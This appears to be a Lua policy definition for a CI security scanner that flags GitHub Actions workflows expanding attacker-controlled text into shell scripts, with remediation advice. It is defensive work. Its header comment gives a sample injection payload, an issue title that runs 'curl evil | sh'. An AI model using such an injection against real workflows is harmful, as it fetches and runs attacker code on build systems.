-- `run: echo "${{ github.event.issue.title }}"` pastes text an attacker
-- chose into a shell script: a title of `"; curl evil | sh; "` runs.

local ci = require "ci"

return crucible.policy{
  id = "CI-NO-INJECTION",
  title = "No untrusted input expanded into scripts",
  category = "ci",
  severity = "critical",
  weight = 3,
  needs = { "workflows" },
  description = "Expressions that attackers control (issue and pull " ..
    "request titles and bodies, branch names, commit messages, author " ..
    "names) must never be expanded by ${{ }} inside a `run:` script or " ..
    "a github-script: they become code.",
  remediation = "Pass the value through an environment variable " ..
    "(`env: TITLE: ${{ github.event.issue.title }}`) and use \"$TITLE\" " ..
    "in the script.",
  references = {
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
  },
  check = function(repo)
    local steps = ci.steps(repo)
    if #steps == 0 then
      return skip("no CI steps")
    end
    local bad = 0
    for _, step in ipairs(steps) do
      for _, expr in ipairs(step.untrusted or {}) do
        bad = bad + 1
        fail{ message = expr .. " is expanded into a script",
          path = step.path, line = step.line }
      end
    end
    if bad == 0 then
      pass("no untrusted input in " .. #steps .. " steps")
    end
  end,
}
